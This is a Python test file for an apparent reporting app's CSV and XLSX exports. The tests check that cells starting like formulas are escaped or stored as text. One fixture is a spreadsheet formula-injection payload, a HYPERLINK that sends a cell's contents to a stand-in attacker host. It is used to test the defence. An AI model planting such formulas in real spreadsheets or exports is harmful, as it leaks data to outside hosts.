"""The reports' downloads (CSV and XLSX) show a cell that starts like a formula as text,
never run it: a standard's name in an uploaded policy file, say."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

from openpyxl import load_workbook

from caredesk.reporting.tables import Table, table_csv, tables_xlsx
from caredesk.reporting.whatif import Figures, RowKind, Side, WhatIf, WhatIfRow
from caredesk.reporting.whatif_text import whatif_csv

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
TABLE = Table(
    name="at-a-glance",
    title="@SUM(A1:A9)",
    headers=["Standard", "+Target", "Met in time (%)"],
    rows=[[ATTACK, "-10 days", 85.9], ["Letters", "10 working days", -5], ["Calls", None, 0]],
)


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_a_table_as_csv_escapes_formulas_in_its_title_headers_and_cells():
    rows = read(table_csv(TABLE))
    assert rows[0] == ["'@SUM(A1:A9)"]
    assert rows[1] == ["Standard", "'+Target", "Met in time (%)"]
    assert rows[2] == ["'" + ATTACK, "'-10 days", "85.9"]
    assert rows[3] == ["Letters", "10 working days", "-5"]  # a number stays a number
    assert rows[4] == ["Calls", "", "0"]


def test_a_table_as_xlsx_holds_formula_like_text_as_text():
    book = load_workbook(io.BytesIO(tables_xlsx([TABLE])))
    sheet = book["at-a-glance"]
    cells = {cell.coordinate: cell for row in sheet.iter_rows() for cell in row}
    # typed as text, shown as written (no apostrophe: a text cell is never run)
    assert (cells["A1"].value, cells["A1"].data_type) == ("@SUM(A1:A9)", "s")
    assert (cells["B2"].value, cells["B2"].data_type) == ("+Target", "s")
    assert (cells["A3"].value, cells["A3"].data_type) == (ATTACK, "s")
    assert cells["C4"].value == -5
    assert not any(cell.data_type == "f" for cell in cells.values())


def test_the_what_if_csv_escapes_a_standard_named_like_a_formula_in_an_uploaded_policy():
    # given: a policy file someone uploaded, with a standard whose name is a formula
    figures = Figures(started=3, in_time=2, late=1)
    current = Side(key="letters", name="Letters", target="10 working days", figures=figures)
    other = Side(key="letters", name=ATTACK, target="-5 working days", figures=figures)
    result = WhatIf(
        current_name="Halton",
        other_name="Uploaded",
        first=date(2025, 6, 1),
        last=date(2025, 6, 30),
        now=datetime(2025, 7, 1, tzinfo=UTC),
        cases=3,
        rows=[WhatIfRow(kind=RowKind.COMPARED, current=current, other=other)],
        matched=[],
        not_rerun=[],
    )
    # when
    rows = read(whatif_csv(result))
    # then: the name and the target read as text; the figures stay figures
    cells = rows[1]
    assert "'" + ATTACK in cells
    assert "'-5 working days" in cells
    assert ATTACK not in cells
    assert "3" in cells
